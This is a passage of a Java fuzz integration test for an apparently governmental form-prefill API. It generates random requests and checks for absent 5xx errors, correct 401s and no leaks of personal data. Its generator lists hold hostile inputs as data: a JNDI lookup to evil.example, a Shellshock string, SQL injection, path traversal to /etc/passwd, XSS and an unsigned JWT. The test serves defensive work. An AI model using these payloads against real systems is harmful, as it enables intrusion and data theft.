package vn.gov.prefill.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Function;
import java.util.stream.Collectors;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Tuple;

import vn.gov.prefill.it.HostileHttp.Persona;
import vn.gov.prefill.domain.Identifiers;
import vn.gov.prefill.source.SourceFetcher;

/**
 * Thousands of random requests (jqwik generators driven by a fixed seed, {@code -Dfuzz.seed}): random
 * and JSON-ish bodies with random actingFor/consent shapes and ids, random form ids, headers,
 * content types and bearer tokens. For every answer: no 5xx at all, every 4xx a complete problem document,
 * no personal data of any persona but the people the caller may see (the caller and whoever the caller's
 * registry records name or are named by: parents, spouse, children, an enterprise and its representatives,
 * {@link #MAY_SEE}, read from the stubs under {@code mocks/}), a bad token never past 401, and no refused
 * request ever reaching a registry.
 */
class FuzzApiIT extends GatewayTestSupport {

    static final long SEED = Long.getLong("fuzz.seed", 20261122L);
    static final int REQUESTS = Integer.getInteger("fuzz.requests", 3200);
    static final int THREADS = 8;

    static final String AUDIENCE = "prefill-gateway";
    static final String NO_BODY = "\u0000<no body>";
    static final String AD_HOC = "<ad-hoc>";
    static final List<String> FORMS = List.of("criminal-record-request", "birth-registration", "child-health-insurance",
            "residence-change", "household-business-registration", "enterprise-change-notice");
    static final List<String> SOURCES = List.of("population", "business", "civil-status", "insurance", "dossiers");
    static final List<Persona> PERSONAS = HostileHttp.personas();
    /**
     * The personas that sign in: all but civil-status-fault, whose civil-status registry is down on purpose, so that acting
     * for a child it gets the designed, fail-closed 503 relation-unverifiable
     * (ApiProblemsIT.actingForAChildWhileTheCivilStatusRegistryIsDownIs503RelationUnverifiable). With the registries
     * working, no answer may be a 5xx.
     */
    static final List<Persona> CALLERS = PERSONAS.stream().filter(p -> !p.id().equals("civil-status-fault")).toList();
    /** Per persona, the other personas it may see (see {@link HostileHttp#maySee}); an ad-hoc number sees nobody. */
    static final Map<String, Set<String>> MAY_SEE = HostileHttp.maySee(PERSONAS);
    static final Set<String> RESTRICTED_HEADERS = Set.of("connection", "content-length", "expect", "host", "upgrade",
            "authorization", "content-type", "transfer-encoding", "te", "trailer", "keep-alive", "proxy-connection", "http2-settings");

    /** Request ids every registry call carried during the run (null outside it). */
    static volatile Set<String> registryRequestIds;
    static boolean listening;

    @Autowired
    SourceFetcher fetcher;

    // ---- the cases

    enum Endpoint { PREFILL, SCHEMA, CATALOGUE, DISCLOSURES, OTHER_METHOD, DEMO_TOKENS, RAW_TARGET }

    enum TokenKind { NONE, GARBAGE, VALID, TRUNCATED, TAMPERED, EXPIRED, WRONG_AUDIENCE, CUSTOM, OTHER_SCHEME }

    /** How the Authorization header is made; resolved to a token only when the request is sent. */
    record TokenSpec(TokenKind kind, String persona, String loa, String text, double at, Map<String, Object> claims) {
        String describe() {
            return switch (kind) {
                case NONE -> "no token";
                case GARBAGE, OTHER_SCHEME -> kind + " " + HostileHttp.abbreviate(text);
                case VALID, EXPIRED, WRONG_AUDIENCE -> kind + " token of " + persona + " " + loa;
                case TRUNCATED, TAMPERED -> kind + " token of " + persona + " at " + String.format(Locale.ROOT, "%.2f", at);
                case CUSTOM -> "CUSTOM token with claims " + claims;
            };
        }

        boolean bad() {
            return switch (kind) {
                case VALID -> false;
                case CUSTOM -> caller() == null;
                default -> true;
            };
        }

        /** The persona id the gateway should take the caller for (AD_HOC for a number no persona has); null: not signed in. */
        String caller() {
            if (kind == TokenKind.VALID) {
                return persona;
            }
            if (kind != TokenKind.CUSTOM || !AUDIENCE.equals(claims.get("aud")) || ((Number) claims.get("lifetime")).longValue() < 0) {
                return null;
            }
            Object type = claims.getOrDefault("LoaiTaiKhoan", "1");
            if ("1".equals(type)) {
                Object id = claims.get("SoDinhDanh");
                if (!(id instanceof String s) || !s.matches("[0-9]{12}")) {
                    return null;
                }
                return PERSONAS.stream().filter(p -> s.equals(p.citizenId())).map(Persona::id).findFirst().orElse(AD_HOC);
            }
            if ("2".equals(type)) {
                Object code = claims.get("MaSoDoanhNghiep");
                if (!(code instanceof String s) || Identifiers.enterpriseCodeProblem(s) != null) {
                    return null;
                }
                return PERSONAS.stream().filter(p -> s.equals(p.enterpriseCode())).map(Persona::id).findFirst().orElse("<ad-hoc org>");
            }
            return null;
        }
    }

    record Case(int index, Endpoint endpoint, String method, String path, TokenSpec token, String contentType, List<String[]> headers,
                String body) {
        String describe() {
            StringBuilder s = new StringBuilder("#" + index + " " + method + " " + path + " [" + token.describe() + "]");
            if (contentType != null) {
                s.append(" Content-Type: ").append(contentType);
            }
            headers.forEach(h -> s.append(" ").append(h[0]).append(": ").append(h[1]));
            if (!NO_BODY.equals(body)) {
                s.append(" body: ").append(HostileHttp.abbreviate(body));
            }
            return mask(s.toString());
        }
    }

    /** Personal data never goes into a message or the test's output: each datum is replaced by whose it is. */
    static String mask(String s) {
        for (Persona p : PERSONAS) {
            for (String datum : p.personalData()) {
                s = s.replace(datum, "<" + p.id() + "'s datum>");
            }
        }
        return s;
    }

    // ---- generators

    static final String TOKEN_CHARS = "!#$%&'*+-.^_`|~0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
    static final String BASE64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

    static Arbitrary<String> digits(int n) {
        return Arbitraries.strings().withChars("0123456789").ofLength(n);
    }

    static Arbitrary<String> printable(int min, int max) {
        return Arbitraries.strings().withCharRange(' ', '~').ofMinLength(min).ofMaxLength(max);
    }

    static Arbitrary<String> unicode(int max) {
        return Arbitraries.strings().all().ofMaxLength(max);
    }

    static String withCheckDigit(String nine) {
        int[] weights = {31, 29, 23, 19, 17, 13, 7, 5, 3};
        int sum = 0;
        for (int i = 0; i < 9; i++) {
            sum += (nine.charAt(i) - '0') * weights[i];
        }
        int check = 10 - sum % 11;
        return sum % 11 == 0 || check == 10 ? nine + "1" : nine + check;
    }

    static final List<String> HOSTILE_STRINGS = List.of("../../admin", "..%2f..%2f", "<a/>", "027224009876</dc:SoDinhDanh><x/>",
            "' OR '1'='1' --", "${jndi:ldap://evil.example/x}", "０２７２２４００９８７６", " 027224009876", "027224009876\n", "",
            "null", "000000000000", "999999999999", "\u0000", "%00", "{{7*7}}", "<script>alert(1)</script>", "0100233488/../x",
            "0100233488-000", "0100233488-001", "2401122337-1", "0101987657 ", "../../../../etc/passwd", "\\u0000", "\uFEFF027224009876",
            "2401122338", "0100233489", "1e3", "-1", "NaN", "A".repeat(300));

    static List<String> citizenNumbers() {
        return PERSONAS.stream().map(Persona::citizenId).filter(Objects::nonNull).toList();
    }

    static List<String> enterpriseCodes() {
        List<String> codes = new ArrayList<>(PERSONAS.stream().map(Persona::enterpriseCode).filter(Objects::nonNull).toList());
        codes.addAll(List.of("0100233488", "2401122337", "0101987657-001", "0100233488-002"));
        return codes;
    }

    static Arbitrary<String> citizenIdArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(citizenNumbers())),
                Tuple.of(2, digits(12)),
                Tuple.of(3, Arbitraries.of(HOSTILE_STRINGS)),
                Tuple.of(2, printable(0, 20)),
                Tuple.of(1, unicode(15)));
    }

    static Arbitrary<String> enterpriseCodeArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(enterpriseCodes())),
                Tuple.of(2, digits(9).map(FuzzApiIT::withCheckDigit)),
                Tuple.of(1, digits(10)),
                Tuple.of(3, Arbitraries.of(HOSTILE_STRINGS)),
                Tuple.of(1, printable(0, 20)));
    }

    static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    static Arbitrary<String> keyArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("actingFor", "consent", "type", "citizenId", "enterpriseCode", "sources", "persona", "loa",
                        "__proto__", "constructor", "$ref", "a/b~c", "", "actingfor", "ActingFor")),
                Tuple.of(2, printable(0, 12)),
                Tuple.of(1, unicode(8)));
    }

    static Arbitrary<JsonNode> leafArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(1, Arbitraries.just(NODES.nullNode())),
                Tuple.of(1, Arbitraries.of(true, false).map(b -> (JsonNode) NODES.booleanNode(b))),
                Tuple.of(2, Arbitraries.integers().map(i -> (JsonNode) NODES.numberNode(i))),
                Tuple.of(1, Arbitraries.longs().map(l -> (JsonNode) NODES.numberNode(l))),
                Tuple.of(1, Arbitraries.doubles().map(d -> (JsonNode) NODES.numberNode(d))),
                Tuple.of(4, Arbitraries.oneOf(citizenIdArb(), enterpriseCodeArb(), keyArb(), unicode(20)).map(s -> (JsonNode) NODES.textNode(s))));
    }

    static Arbitrary<JsonNode> jsonValueArb() {
        return Arbitraries.recursive(FuzzApiIT::leafArb, inner -> Arbitraries.frequencyOf(
                Tuple.of(2, inner),
                Tuple.of(1, inner.list().ofMaxSize(4).map(items -> {
                    ArrayNode a = NODES.arrayNode();
                    items.forEach(a::add);
                    return (JsonNode) a;
                })),
                Tuple.of(2, Arbitraries.maps(keyArb(), inner).ofMaxSize(4).map(m -> {
                    ObjectNode o = NODES.objectNode();
                    m.forEach(o::set);
                    return (JsonNode) o;
                }))), 0, 3);
    }

    static ObjectNode object(Object... kv) {
        ObjectNode o = NODES.objectNode();
        for (int i = 0; i < kv.length; i += 2) {
            Object v = kv[i + 1];
            if (v == null) {
                continue;
            }
            o.set((String) kv[i], v instanceof JsonNode n ? n : NODES.textNode(v.toString()));
        }
        return o;
    }

    static Arbitrary<JsonNode> typeArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of("CHILD", "ENTERPRISE").map(s -> (JsonNode) NODES.textNode(s))),
                Tuple.of(2, Arbitraries.of("child", "Enterprise", "", "SELF", "ADMIN", "CHILD ", "ENTERPRISE\u0000")
                        .map(s -> (JsonNode) NODES.textNode(s))),
                Tuple.of(1, leafArb()));
    }

    static Arbitrary<JsonNode> actingForArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(4, citizenIdArb().map(id -> (JsonNode) object("type", "CHILD", "citizenId", id))),
                Tuple.of(4, enterpriseCodeArb().map(code -> (JsonNode) object("type", "ENTERPRISE", "enterpriseCode", code))),
                Tuple.of(3, Combinators.combine(typeArb(), citizenIdArb().injectNull(0.5), enterpriseCodeArb().injectNull(0.5),
                        keyArb().injectNull(0.7), jsonValueArb()).as((type, id, code, extra, value) -> {
                            ObjectNode o = object("type", type, "citizenId", id, "enterpriseCode", code);
                            if (extra != null) {
                                o.set(extra, value);
                            }
                            return (JsonNode) o;
                        })),
                Tuple.of(1, jsonValueArb()));
    }

    static Arbitrary<JsonNode> consentArb() {
        Arbitrary<JsonNode> sources = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.subsetOf(SOURCES).map(s -> {
                    ArrayNode a = NODES.arrayNode();
                    SOURCES.stream().filter(s::contains).forEach(a::add);
                    return (JsonNode) a;
                })),
                Tuple.of(2, Arbitraries.oneOf(Arbitraries.of(SOURCES), keyArb(), Arbitraries.of("tax", "POPULATION", "../population"))
                        .list().ofMaxSize(4).map(l -> {
                            ArrayNode a = NODES.arrayNode();
                            l.forEach(a::add);
                            return (JsonNode) a;
                        })),
                Tuple.of(1, jsonValueArb()));
        return Arbitraries.frequencyOf(
                Tuple.of(5, sources.map(s -> (JsonNode) object("sources", s))),
                Tuple.of(1, Combinators.combine(sources, keyArb(), jsonValueArb()).as((s, k, v) -> {
                    ObjectNode o = object("sources", s);
                    o.set(k, v);
                    return (JsonNode) o;
                })),
                Tuple.of(1, jsonValueArb()));
    }

    static Arbitrary<String> prefillBodyArb() {
        Arbitrary<ObjectNode> structured = Combinators.combine(actingForArb().injectNull(0.35), consentArb().injectNull(0.6),
                keyArb().injectNull(0.85), jsonValueArb()).as((actingFor, consent, extra, value) -> {
                    ObjectNode o = object("actingFor", actingFor, "consent", consent);
                    if (extra != null) {
                        o.set(extra, value);
                    }
                    return o;
                });
        Arbitrary<String> jsonish = Arbitraries.frequencyOf(
                Tuple.of(1, Arbitraries.strings().withChars("{}[]\":,.-+eE0123456789 \\/ntrufals").ofMaxLength(60)),
                Tuple.of(2, Arbitraries.of("{", "}", "[", "]", "\"actingFor\"", "\"consent\"", "\"sources\"", ":", ",", "\"CHILD\"",
                        "\"ENTERPRISE\"", "null", "true", "1e999", "-0", "\"\\u0000\"", "\"\\ud800\"", "NaN", "Infinity", "//", "/*",
                        "'x'", "\"027224009876\"", "\"0100233488\"", "{\"type\":", "\"citizenId\":", "\uFEFF")
                        .list().ofMaxSize(24).map(l -> String.join("", l))));
        // requests a front end would send, so that many prefills go all the way through the registries
        Arbitrary<String> plausible = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("{}", NO_BODY, "{\"actingFor\": null}")),
                Tuple.of(2, Arbitraries.subsetOf(SOURCES).map(s -> "{\"consent\": {\"sources\": ["
                        + SOURCES.stream().filter(s::contains).map(x -> "\"" + x + "\"").collect(Collectors.joining(", ")) + "]}}")),
                Tuple.of(2, Arbitraries.of("027224009876", "001223000007", "027190001234")
                        .map(id -> "{\"actingFor\": {\"type\": \"CHILD\", \"citizenId\": \"" + id + "\"}}")),
                Tuple.of(2, Arbitraries.of("0100233488", "2401122337", "0101987657", "0101987657-001", "7900112238", "0100666668")
                        .map(code -> "{\"actingFor\": {\"type\": \"ENTERPRISE\", \"enterpriseCode\": \"" + code + "\"}}")));
        return Arbitraries.frequencyOf(
                Tuple.of(45, plausible),
                Tuple.of(25, structured.map(FuzzApiIT::write)),
                Tuple.of(10, jsonValueArb().map(FuzzApiIT::write)),
                Tuple.of(8, jsonish),
                Tuple.of(5, Combinators.combine(structured.map(FuzzApiIT::write), Arbitraries.doubles().between(0, 1))
                        .as((s, f) -> s.substring(0, (int) (s.length() * f)))),
                Tuple.of(4, Arbitraries.of("", " ", "{}", "null", "[]", "{", "}", "\"\"", "\u0000", "\uFEFF{}", "{}{}", "{} x")),
                Tuple.of(3, Combinators.combine(Arbitraries.integers().between(50, 12_000), Arbitraries.of("[", "{\"a\":", "{\"actingFor\":"))
                        .as((n, open) -> open.repeat(open.length() == 1 ? n : n / 8))),
                Tuple.of(4, Arbitraries.just(NO_BODY)));
    }

    static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static Arbitrary<String> demoBodyArb() {
        Arbitrary<String> persona = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(PERSONAS.stream().map(Persona::id).toList())),
                Tuple.of(1, keyArb()), Tuple.of(1, Arbitraries.of(HOSTILE_STRINGS)));
        return Arbitraries.frequencyOf(
                Tuple.of(3, Combinators.combine(persona, Arbitraries.of("LoA1", "LoA2", "LoA3", "").injectNull(0.5),
                        Arbitraries.longs().between(-200_000, 200_000).injectNull(0.6), keyArb().injectNull(0.9))
                        .as((p, loa, exp, extra) -> {
                            ObjectNode o = object("persona", p, "loa", loa);
                            if (exp != null) {
                                o.put("expiresInSeconds", exp);
                            }
                            if (extra != null) {
                                o.put(extra, "x");
                            }
                            return write(o);
                        })),
                Tuple.of(1, citizenIdArb().map(id -> write(object("citizenId", id)))),
                Tuple.of(1, enterpriseCodeArb().map(code -> write(object("enterpriseCode", code)))),
                Tuple.of(1, prefillBodyArb()));
    }

    /** Encodes one path segment: unreserved characters as they are, the rest percent-encoded (some sub-delimiters and '/' left raw). */
    static String encodeSegment(String s, boolean rawSubDelims, boolean rawSlash) {
        StringBuilder out = new StringBuilder();
        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
            boolean unreserved = c < 0x80 && (Character.isLetterOrDigit(c) || "-._~".indexOf(c) >= 0);
            if (unreserved || rawSubDelims && "!$&'()*+,;=:@".indexOf(c) >= 0 || rawSlash && c == '/') {
                out.append(c);
            } else {
                out.append('%').append(String.format(Locale.ROOT, "%02X", b & 0xff));
            }
        }
        return out.toString();
    }

    static Arbitrary<String> formIdArb() {
        Arbitrary<String> percent = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.integers().between(0, 255).map(i -> String.format(Locale.ROOT, "%%%02X", i))),
                Tuple.of(2, Arbitraries.of("%2F", "%00", "%2E", "%2e", "%5C", "%3B", "%25", "%FF", "%C0%AF", "%E2%80%AE", "%0A", "%0D")),
                Tuple.of(3, Arbitraries.strings().withCharRange('a', 'z').ofMinLength(1).ofMaxLength(4)),
                Tuple.of(1, Arbitraries.of(FORMS)))
                .list().ofMinSize(1).ofMaxSize(6).map(l -> String.join("", l));
        return Arbitraries.frequencyOf(
                Tuple.of(70, Arbitraries.of(FORMS)),
                Tuple.of(8, Combinators.combine(printable(0, 40), Arbitraries.of(true, false), Arbitraries.of(false, false, true))
                        .as(FuzzApiIT::encodeSegment)),
                Tuple.of(6, Combinators.combine(unicode(20), Arbitraries.of(true, false)).as((s, raw) -> encodeSegment(s, raw, false))),
                Tuple.of(8, percent),
                Tuple.of(8, Arbitraries.of("..", ".", "%2e%2e", "..%2F", "%00", "f".repeat(500), "criminal-record-request;x=1",
                        "CRIMINAL-RECORD-REQUEST", "", "%2F", "criminal-record-request%20", "criminal-record-request/",
                        "enterprise-change-notice%00", "child-health-insurance..", "*", "~", "a".repeat(64), "a".repeat(65))));
    }

    static Arbitrary<String> queryArb() {
        Arbitrary<String> value = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.integers().between(-5, 200_000).map(String::valueOf)),
                Tuple.of(1, Arbitraries.of("", "abc", "1e3", "0x10", "2147483648", "-2147483649", "99999999999999999999", "%00", "NaN",
                        "1;DROP%20TABLE%20disclosures", "%EF%BC%91")),
                Tuple.of(1, printable(0, 12).map(s -> encodeSegment(s, false, false))));
        return Combinators.combine(value.injectNull(0.4), value.injectNull(0.4), keyArb().injectNull(0.8), value)
                .as((page, size, extra, extraValue) -> {
                    List<String> params = new ArrayList<>();
                    if (page != null) {
                        params.add("page=" + page);
                    }
                    if (size != null) {
                        params.add("size=" + size);
                    }
                    if (extra != null) {
                        params.add(encodeSegment(extra, false, false) + "=" + extraValue);
                    }
                    return params.isEmpty() ? "" : "?" + String.join("&", params);
                });
    }

    static Arbitrary<String> contentTypeArb() {
        return Arbitraries.frequencyOf(
                Tuple.of(65, Arbitraries.just("application/json")),
                Tuple.of(10, Arbitraries.of("application/json; charset=utf-8", "application/json;charset=UTF-8", "APPLICATION/JSON")),
                Tuple.of(8, Arbitraries.of("application/problem+json", "application/merge-patch+json", "application/json; charset=UTF-16",
                        "application/json; charset=nonsense", "application/json; boundary=x", "application/*", "*/*", "text/json")),
                Tuple.of(10, Arbitraries.of("text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded",
                        "multipart/form-data", "multipart/form-data; boundary=xyz", "application/octet-stream", "text/html", "")),
                Tuple.of(5, printable(0, 40).map(String::strip)),
                Tuple.of(7, Arbitraries.just((String) null)));
    }

    static Arbitrary<List<String[]>> headersArb() {
        Arbitrary<String> name = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("Accept", "Accept-Charset", "Accept-Language", "Accept-Encoding", "X-Forwarded-For",
                        "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "Forwarded", "X-HTTP-Method-Override", "X-Request-Id",
                        "Origin", "Referer", "Cookie", "Range", "If-None-Match", "If-Modified-Since", "Content-Encoding", "Content-Language",
                        "X-Api-Key", "X-Purpose", "Access-Control-Request-Method", "Access-Control-Request-Headers", "User-Agent", "Prefer",
                        "Max-Forwards", "Via", "Cache-Control", "X-Original-URL", "X-Rewrite-URL", "X-Client-Id", "X-User")),
                Tuple.of(2, Arbitraries.strings().withChars(TOKEN_CHARS).ofMinLength(1).ofMaxLength(30)))
                .filter(n -> !RESTRICTED_HEADERS.contains(n.toLowerCase(Locale.ROOT)));
        Arbitrary<String> value = Arbitraries.frequencyOf(
                Tuple.of(3, printable(0, 80).map(String::strip)),
                Tuple.of(3, Arbitraries.of("*/*", "text/html", "application/xml", "application/json", "application/problem+json",
                        "image/png", "text/event-stream", "gzip", "deflate, br", "vi-VN,vi;q=0.9", "127.0.0.1, 10.0.0.1", "evil.example",
                        "https", "DELETE", "PUT", "GET", "http://evil.example", "JSESSIONID=abc; SESSION=x", "bytes=0-10", "\"etag\"",
                        "/admin", "../../", "${jndi:ldap://evil.example/x}", "() { :; }; echo vulnerable", "0", "-1",
                        "application/json;q=0, text/plain", "text/html;q=1, application/json;q=0")));
        return Combinators.combine(name, value).as((n, v) -> new String[] {n, v}).list().ofMaxSize(3);
    }

    static Arbitrary<TokenSpec> tokenArb() {
        List<String> ids = CALLERS.stream().map(Persona::id).toList();
        Arbitrary<String> persona = Arbitraries.of(ids);
        Arbitrary<String> loa = Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.just("LoA2")), Tuple.of(1, Arbitraries.just("LoA1")));
        Arbitrary<Double> at = Arbitraries.doubles().between(0.02, 0.98);
        List<String> callerNumbers = CALLERS.stream().map(Persona::citizenId).filter(Objects::nonNull).toList();
        Arbitrary<Map<String, Object>> claims = Combinators.combine(
                Arbitraries.frequencyOf(Tuple.of(5, Arbitraries.of(callerNumbers)), Tuple.of(3, digits(12)),
                        Tuple.of(2, Arbitraries.of(HOSTILE_STRINGS))).injectNull(0.1),
                Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.just("1")), Tuple.of(1, Arbitraries.just("2")),
                        Tuple.of(1, Arbitraries.of("3", "", "01"))).injectNull(0.1),
                Arbitraries.frequencyOf(Tuple.of(2, Arbitraries.of(enterpriseCodes())), Tuple.of(1, digits(9).map(FuzzApiIT::withCheckDigit)),
                        Tuple.of(1, Arbitraries.of(HOSTILE_STRINGS))).injectNull(0.6),
                Arbitraries.frequencyOf(Tuple.of(6, Arbitraries.just("LoA2")), Tuple.of(2, Arbitraries.just("LoA1")),
                        Tuple.of(1, Arbitraries.of("LoA3", "", "loa2"))).injectNull(0.05),
                Arbitraries.frequencyOf(Tuple.of(9, Arbitraries.just(AUDIENCE)), Tuple.of(1, Arbitraries.of("other", "", AUDIENCE + " "))),
                Arbitraries.frequencyOf(Tuple.of(9, Arbitraries.just(300L)), Tuple.of(1, Arbitraries.just(-600L))),
                Arbitraries.of("demo-e-form", "e-form-a", "e-form-b").injectNull(0.3))
                .as((id, type, code, acr, aud, lifetime, azp) -> {
                    Map<String, Object> m = new LinkedHashMap<>();
                    m.put("SoDinhDanh", id);
                    m.put("LoaiTaiKhoan", type);
                    m.put("MaSoDoanhNghiep", code);
                    m.put("acr", acr);
                    m.put("azp", azp);
                    m.values().removeIf(Objects::isNull);
                    m.put("aud", aud);
                    m.put("lifetime", lifetime);
                    return m;
                });
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.just(new TokenSpec(TokenKind.NONE, null, null, null, 0, null))),
                Tuple.of(6, Arbitraries.frequencyOf(
                        Tuple.of(3, Arbitraries.strings().withChars(BASE64URL + ".").ofMinLength(1).ofMaxLength(300)),
                        Tuple.of(1, printable(1, 100).map(String::strip).filter(s -> !s.isEmpty())),
                        Tuple.of(1, Arbitraries.of("null", "undefined", "Bearer", "eyJ", "eyJhbGciOiJSUzI1NiJ9", "a.b.c", "...",
                                "eyJhbGciOiJub25lIn0.e30.")))
                        .map(s -> new TokenSpec(TokenKind.GARBAGE, null, null, s, 0, null))),
                Tuple.of(50, Combinators.combine(persona, loa).as((p, l) -> new TokenSpec(TokenKind.VALID, p, l, null, 0, null))),
                Tuple.of(5, Combinators.combine(persona, at).as((p, a) -> new TokenSpec(TokenKind.TRUNCATED, p, "LoA2", null, a, null))),
                Tuple.of(4, Combinators.combine(persona, at, Arbitraries.of(BASE64URL.chars().mapToObj(c -> String.valueOf((char) c)).toList()))
                        .as((p, a, c) -> new TokenSpec(TokenKind.TAMPERED, p, "LoA2", c, a, null))),
                Tuple.of(3, persona.map(p -> new TokenSpec(TokenKind.EXPIRED, p, "LoA2", null, 0, null))),
                Tuple.of(2, persona.map(p -> new TokenSpec(TokenKind.WRONG_AUDIENCE, p, "LoA2", null, 0, null))),
                Tuple.of(14, claims.map(c -> new TokenSpec(TokenKind.CUSTOM, null, null, null, 0, c))),
                Tuple.of(2, Arbitraries.of("Basic aG9hOnNlY3JldA==", "Bearer", "bearer", "Token abc", "Digest x", "Negotiate x", "Bearer  a b")
                        .map(s -> new TokenSpec(TokenKind.OTHER_SCHEME, null, null, s, 0, null))));
    }

    /** A prefill a real front end would send for a real citizen: the body fits the form (its actingFor, a consent). */
    static Arbitrary<Case> coherentArb() {
        List<String> citizens = CALLERS.stream().filter(p -> p.citizenId() != null).map(Persona::id).toList();
        Arbitrary<String> persona = Arbitraries.of(citizens);
        Arbitrary<String> consent = Arbitraries.subsetOf(SOURCES).map(set -> "\"consent\": {\"sources\": ["
                + SOURCES.stream().filter(set::contains).map(x -> "\"" + x + "\"").collect(Collectors.joining(", ")) + "]}").injectNull(0.7);
        Arbitrary<String> child = Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of("027224009876", "001223000007")),
                Tuple.of(1, Arbitraries.of(citizenNumbers())));
        Arbitrary<String> enterprise = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of("0100233488", "2401122337", "0101987657", "0101987657-001")),
                Tuple.of(1, Arbitraries.of(enterpriseCodes())));
        return Combinators.combine(persona, Arbitraries.of(FORMS), consent, child, enterprise, headersArb(),
                        Arbitraries.of("application/json", "application/json; charset=utf-8"))
                .as((p, form, cons, childId, code, headers, type) -> {
                    List<String> parts = new ArrayList<>();
                    if (form.equals("child-health-insurance")) {
                        parts.add("\"actingFor\": {\"type\": \"CHILD\", \"citizenId\": \"" + childId + "\"}");
                    } else if (form.equals("enterprise-change-notice")) {
                        parts.add("\"actingFor\": {\"type\": \"ENTERPRISE\", \"enterpriseCode\": \"" + code + "\"}");
                    }
                    if (cons != null) {
                        parts.add(cons);
                    }
                    return new Case(0, Endpoint.PREFILL, "POST", "/api/v1/forms/" + form + "/prefill",
                            new TokenSpec(TokenKind.VALID, p, "LoA2", null, 0, null), type, headers, "{" + String.join(", ", parts) + "}");
                });
    }

    static Arbitrary<Case> caseArb() {
        return Arbitraries.frequencyOf(Tuple.of(85, anyCaseArb()), Tuple.of(15, coherentArb()));
    }

    static Arbitrary<Case> anyCaseArb() {
        Arbitrary<Endpoint> endpoint = Arbitraries.frequencyOf(
                Tuple.of(70, Arbitraries.just(Endpoint.PREFILL)), Tuple.of(6, Arbitraries.just(Endpoint.SCHEMA)),
                Tuple.of(1, Arbitraries.just(Endpoint.CATALOGUE)), Tuple.of(8, Arbitraries.just(Endpoint.DISCLOSURES)),
                Tuple.of(6, Arbitraries.just(Endpoint.OTHER_METHOD)), Tuple.of(4, Arbitraries.just(Endpoint.DEMO_TOKENS)),
                Tuple.of(5, Arbitraries.just(Endpoint.RAW_TARGET)));
        Arbitrary<String> otherMethod = Arbitraries.of("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "FOO", "GET");
        Arbitrary<String> rawSegment = Arbitraries.strings().withChars("aé€ \"<>{}|\\^`\u0007\u00ff%/;.").ofMinLength(1).ofMaxLength(12);
        return Combinators.combine(endpoint, formIdArb(), tokenArb(), contentTypeArb(), headersArb(), prefillBodyArb(),
                        Combinators.combine(queryArb(), otherMethod, demoBodyArb(), rawSegment).as(List::of))
                .as((e, formId, token, type, headers, body, more) -> {
                    String query = (String) more.get(0);
                    String method = (String) more.get(1);
                    String demoBody = (String) more.get(2);
                    String raw = (String) more.get(3);
                    return switch (e) {
                        case PREFILL -> new Case(0, e, "POST", "/api/v1/forms/" + formId + "/prefill", token, type, headers, body);
                        case SCHEMA -> new Case(0, e, "GET", "/api/v1/forms/" + formId, token, null, headers, NO_BODY);
                        case CATALOGUE -> new Case(0, e, "GET", "/api/v1/forms" + query, token, null, headers, NO_BODY);
                        case DISCLOSURES -> new Case(0, e, "GET", "/api/v1/me/disclosures" + query, token, null, headers, NO_BODY);
                        case OTHER_METHOD -> new Case(0, e, method, "/api/v1/forms/" + formId + "/prefill", token, type, headers,
                                "GET".equals(method) || "TRACE".equals(method) ? NO_BODY : body);
                        case DEMO_TOKENS -> new Case(0, e, "POST", "/api/v1/demo/tokens", token, type, headers, demoBody);
                        case RAW_TARGET -> new Case(0, e, "POST", "/api/v1/forms/" + raw + "/prefill", token, "application/json",
                                List.of(), "{}");
                    };
                });
    }

    /** Draws {@code n} values with jqwik's generator and a fixed seed (inside a jqwik context, which generators need). */
    static <T> List<T> draw(Arbitrary<T> arbitrary, long seed, int n) {
        return Arbitraries.of(seed, seed).map(s -> {
            RandomGenerator<T> generator = arbitrary.generator(1000);
            Random random = new Random(s);
            List<T> out = new ArrayList<>(n);
            for (int i = 0; i < n; i++) {
                out.add(generator.next(random).value());
            }
            return out;
        }).sample();
    }

